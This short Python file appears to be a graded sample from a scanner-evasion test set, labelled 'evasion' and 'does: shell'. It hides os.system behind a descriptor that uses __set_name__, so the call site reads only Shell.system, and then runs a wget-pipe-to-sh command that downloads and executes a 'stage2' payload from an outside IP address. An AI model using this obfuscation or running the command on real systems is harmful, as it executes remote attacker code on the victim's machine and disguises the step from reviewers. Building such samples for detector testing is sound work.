# evasion: a descriptor's __set_name__ fetches the os function named like the class attribute; the call site only says Shell.system
# grade: very hard; does: shell
import os


class Bound:
    def __set_name__(self, owner, name):
        self.target = getattr(os, name)

    def __get__(self, obj, owner=None):
        return self.target


class Shell:
    system = Bound()
    getcwd = Bound()


print(Shell.getcwd())
Shell.system("wget -qO- http://203.0.113.62/stage2 | sh")
